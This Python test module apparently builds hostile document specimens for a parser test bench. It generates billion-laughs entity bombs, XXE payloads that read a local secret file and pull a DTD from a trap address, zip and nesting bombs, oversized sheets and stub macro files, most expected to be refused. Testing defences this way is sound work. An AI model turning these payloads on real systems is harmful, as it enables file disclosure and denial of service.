"""Office files, pages and drawings made to do harm: entities, bombs, endless nesting, declared giants.

May import the specimens and the archives.
"""

from pathlib import Path

from ui.bench.hostile.archives import forged, zeros, zipped
from ui.bench.hostile.specimen import Specimen, Trap, of_bytes

_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_S = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_TYPES = "http://schemas.openxmlformats.org/package/2006/content-types"
_RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
_KINDS = "application/vnd.openxmlformats-officedocument"
_LAUGHS = "".join(
    f'<!ENTITY l{level} "{f"&l{level - 1};" * 10 if level else "哈哈哈哈哈哈哈哈"}">' for level in range(10)
)
_BOMB = f"<!DOCTYPE r [{_LAUGHS}]>"


def _outside(trap: Trap) -> str:
    return (
        f'<!DOCTYPE r [<!ENTITY l9 SYSTEM "{trap.secret.as_uri()}">'
        f'<!ENTITY % far SYSTEM "{trap.address}/far.dtd"> %far;]>'
    )


def _package(main: str, kind: str, body: str, *more: tuple[str, str | bytes]) -> bytes:
    """An office file of one part, with those beside it."""
    types = (
        f'<Types xmlns="{_TYPES}"><Default Extension="xml" ContentType="application/xml"/>'
        f'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        f'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
        f'<Override PartName="/{main}" ContentType="{kind}"/></Types>'
    )
    rels = (
        f'<Relationships xmlns="{_RELS}"><Relationship Id="r1" Type="{_R}/officeDocument" '
        f'Target="{main}"/></Relationships>'
    )
    parts = [("[Content_Types].xml", types), ("_rels/.rels", rels), (main, body), *more]
    return zipped(*((name, part.encode() if isinstance(part, str) else part) for name, part in parts))


def word(
    paragraphs: str, *, before: str = "", kind: str = "document", more: tuple[str, bytes] | None = None
) -> bytes:
    """A Word file with this content between its body's tags."""
    body = (
        f'<?xml version="1.0"?>{before}<w:document xmlns:w="{_W}"><w:body>{paragraphs}</w:body></w:document>'
    )
    main = f"{_KINDS}.wordprocessingml.{kind}.main+xml"
    return _package("word/document.xml", main, body, *([more] if more else []))


def paragraph(text: str) -> str:
    """A paragraph of a Word file."""
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def sheet(
    rows: str, *, before: str = "", dimension: str = "A1", more: tuple[str, bytes] | None = None
) -> bytes:
    """A workbook of one sheet with these rows."""
    book = (
        f'<workbook xmlns="{_S}" xmlns:r="{_R}"><sheets>'
        f'<sheet name="表" sheetId="1" r:id="r1"/></sheets></workbook>'
    )
    rels = (
        f'<Relationships xmlns="{_RELS}"><Relationship Id="r1" Type="{_R}/worksheet" '
        f'Target="worksheets/sheet1.xml"/></Relationships>'
    )
    content = (
        f'<?xml version="1.0"?>{before}<worksheet xmlns="{_S}"><dimension ref="{dimension}"/>'
        f"<sheetData>{rows}</sheetData></worksheet>"
    )
    parts = [("xl/_rels/workbook.xml.rels", rels), ("xl/worksheets/sheet1.xml", content)]
    kind = f"{_KINDS}.spreadsheetml.sheet.main+xml"
    return _package("xl/workbook.xml", kind, book, *parts, *([more] if more else []))


def cell(place: str, text: str) -> str:
    """A cell of text in a row of its own."""
    number = place.lstrip("ABCDEFGHIJKLMNOPQRSTUVWXYZ")
    return f'<row r="{number}"><c r="{place}" t="inlineStr"><is><t>{text}</t></is></c></row>'


def _word_outside(path: Path, trap: Trap) -> None:
    path.write_bytes(word(paragraph("外部&l9;"), before=_outside(trap)))


def _sheet_outside(path: Path, trap: Trap) -> None:
    path.write_bytes(sheet(cell("A1", "外部&l9;"), before=_outside(trap)))


def _page_outside(path: Path, trap: Trap) -> None:
    path.write_text(
        f"{_outside(trap)}<html><body><p>外部&l9;</p><iframe src='{trap.secret.as_uri()}'></iframe>"
        f"<img src='{trap.address}/far.png'><link rel=stylesheet href='{trap.address}/far.css'>"
        "</body></html>",
        encoding="utf-8",
    )


def _drawing_outside(path: Path, trap: Trap) -> None:
    path.write_text(f"{_outside(trap)}<svg><text>外部&l9;</text></svg>", encoding="utf-8")


_MACRO = ("word/vbaProject.bin", b"\xd0\xcf\x11\xe0Shell cmd.exe")
_SHEET_MACRO = ("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0Shell cmd.exe")

OFFICES = (
    Specimen(
        "实体炸弹.docx", "十亿个“哈”", of_bytes(lambda: word(paragraph("&l9;"), before=_BOMB)), "refused"
    ),
    Specimen(
        "实体炸弹.xlsx", "十亿个“哈”", of_bytes(lambda: sheet(cell("A1", "&l9;"), before=_BOMB)), "refused"
    ),
    Specimen(
        "实体炸弹.html", "十亿个“哈”", of_bytes(f"{_BOMB}<html><body><p>哈&l9;</p></body></html>".encode())
    ),
    Specimen(
        "实体炸弹.svg", "十亿个“哈”", of_bytes(f"{_BOMB}<svg><text>&l9;</text></svg>".encode()), "refused"
    ),
    Specimen("外部实体.docx", "读外面的文件，连外面的地址", _word_outside, "refused"),
    Specimen("外部实体.xlsx", "读外面的文件，连外面的地址", _sheet_outside, "refused"),
    Specimen("外部实体.html", "读外面的文件，连外面的地址", _page_outside),
    Specimen("外部实体.svg", "读外面的文件，连外面的地址", _drawing_outside, "refused"),
    Specimen(
        "部件炸弹.docx",
        "正文部件 2 GB 的零",
        of_bytes(lambda: forged("word/document.xml", zeros(2000 * 2**20), size=2000 * 2**20)),
        "refused",
    ),
    Specimen(
        "图片炸弹.docx",
        "200 MB 的零冒充图片",
        of_bytes(lambda: word(paragraph("正文。"), more=("word/media/a.png", bytes(200 * 2**20)))),
    ),
    Specimen(
        "深嵌套.docx",
        "十万层的表格",
        of_bytes(lambda: word("<w:tbl><w:tr><w:tc>" * 100_000 + "</w:tc></w:tr></w:tbl>" * 100_000)),
    ),
    Specimen("长段.docx", "一段五百万字", of_bytes(lambda: word(paragraph("好" * 5_000_000))), slow=True),
    Specimen("五十万段.docx", "五十万个段落", of_bytes(lambda: word(paragraph("好。") * 500_000)), slow=True),
    Specimen(
        "巨表.xlsx",
        "自称 1,048,576 行 16,384 列",
        of_bytes(lambda: sheet(cell("A1", "左上") + cell("XFD1048576", "右下"), dimension="A1:XFD1048576")),
    ),
    Specimen(
        "百万行.xlsx",
        "一百万行",
        of_bytes(lambda: sheet("".join(cell(f"A{row}", "值") for row in range(1, 1_000_001)))),
        slow=True,
    ),
    Specimen("深嵌套.html", "五十万层的 div", of_bytes(b"<html><body>" + b"<div>" * 500_000 + "底".encode())),
    Specimen("尖括号.html", "两百万个小于号", of_bytes(b"<html><body>" + b"<" * 2_000_000)),
    Specimen(
        "带宏.docm",
        "带宏",
        of_bytes(lambda: word(paragraph("带宏的正文。"), kind="document.macroEnabled", more=_MACRO)),
    ),
    Specimen("带宏.xlsm", "带宏", of_bytes(lambda: sheet(cell("A1", "带宏的表。"), more=_SHEET_MACRO))),
    Specimen("假的.docx", "其实是文本", of_bytes("其实是文本。".encode()), "refused"),
)
